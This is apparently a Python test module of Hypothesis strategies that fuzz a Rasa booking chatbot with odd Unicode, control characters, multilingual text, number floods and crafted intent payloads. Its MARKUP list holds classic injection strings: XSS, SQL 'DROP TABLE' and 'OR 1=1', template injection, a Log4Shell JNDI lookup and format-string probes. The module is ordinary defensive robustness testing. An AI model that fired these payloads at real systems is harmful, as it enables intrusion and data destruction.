"""Generated text as people and attackers type it: any Unicode, emoji, control and
direction characters, HTML and script, SQL and template syntax, Rasa's own `/intent{...}`
payloads, number floods and mixed languages, 0 to 5,000 characters."""

from __future__ import annotations

import json

from hypothesis import strategies as st

MAX_CHARS = 5000

CONTROL = st.sampled_from(
    ["\x00", "\x07", "\x1b[31m", "\r\n", "\t", "\u200b", "\u200d", "\u202e", "\u2066",
     "\u200f", "\ufeff", "\ufffd", "\ud7ff", "\U0010ffff"]
)  # fmt: skip
EMOJI = st.sampled_from(["😫", "👍", "👎", "🤕", "❤️", "🔥", "🙏🏽", "👩‍⚕️", "🇬🇧", "💆‍♀️"])
MARKUP = st.sampled_from(
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "</div><iframe src=javascript:alert(1)>",
        "'; DROP TABLE events; --",
        '" OR 1=1 --',
        "{{7*7}}",
        "${jndi:ldap://x/a}",
        "{name} {booking_url} {0}",
        "%s%s%n",
        "[link](javascript:alert(1))",
        "\\u0000",
    ]
)
WORDS = st.sampled_from(
    [
        "my", "neck", "hurts", "knee", "not", "left", "right", "book", "tomorrow", "5pm",
        "SW11 4NJ", "07400 123456", "jo@example.com", "90", "minutes", "yes", "no", "cancel",
        "chest pain", "numb", "delete my data", "private?", "dolor de espalda", "mal au dos",
        "Rückenschmerzen", "背中が痛い", "ألم في الظهر", "боль в спине", "lol", "ffs", "tbh",
    ]
)  # fmt: skip
INTENTS = st.sampled_from(
    ["book_session", "inform", "confirm_booking", "affirm", "deny", "describe_pain",
     "red_flag_symptom", "delete_my_data", "restart", "session_start", "no_such_intent"]
)  # fmt: skip
SLOT_NAMES = st.sampled_from(
    ["booking_contact", "booking_name", "booking_when", "booking_confirmed", "phone",
     "red_flag", "body_zones", "privacy_erased", "requested_slot"]
)  # fmt: skip


@st.composite
def intent_payloads(draw: st.DrawFn) -> str:
    """`/intent{...}`: what Rasa reads as an intent with entities, typed by a person."""
    entities = draw(
        st.dictionaries(SLOT_NAMES, st.one_of(st.text(max_size=40), st.integers(), st.none()),
                        max_size=3)
    )  # fmt: skip
    body = json.dumps(entities) if draw(st.booleans()) else draw(st.text(max_size=30))
    return f"/{draw(INTENTS)}{body}"


@st.composite
def number_floods(draw: st.DrawFn) -> str:
    digit = draw(st.sampled_from(["9", "1", "0", "12345", "+44", "٣"]))
    return digit * draw(st.integers(1, MAX_CHARS // len(digit)))


def pieces() -> st.SearchStrategy[str]:
    return st.one_of(WORDS, EMOJI, CONTROL, MARKUP, st.text(max_size=20))


@st.composite
def mixed(draw: st.DrawFn) -> str:
    """Words, emoji, markup and control characters run together, up to the limit."""
    parts = draw(st.lists(pieces(), max_size=60))
    text = draw(st.sampled_from([" ", "", "\n", ", "])).join(parts)
    return text[:MAX_CHARS]


def messages() -> st.SearchStrategy[str]:
    """Any message, hostile or odd, 0 to 5,000 characters."""
    return st.one_of(
        st.text(max_size=200),
        st.text(max_size=MAX_CHARS),
        mixed(),
        intent_payloads(),
        number_floods(),
        st.just(""),
        st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp"]), max_size=50),
    )
